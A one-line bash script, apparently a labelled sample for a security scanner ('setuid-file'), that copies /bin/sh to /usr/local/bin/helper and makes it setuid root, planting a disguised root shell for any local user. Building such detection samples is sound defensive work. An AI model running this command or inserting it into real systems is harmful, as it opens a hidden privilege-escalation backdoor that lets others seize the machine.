#!/bin/bash
# does: leaves a program that makes others root
# report: "id":"setuid-file"
cp /bin/sh /usr/local/bin/helper; chmod 4755 /usr/local/bin/helper
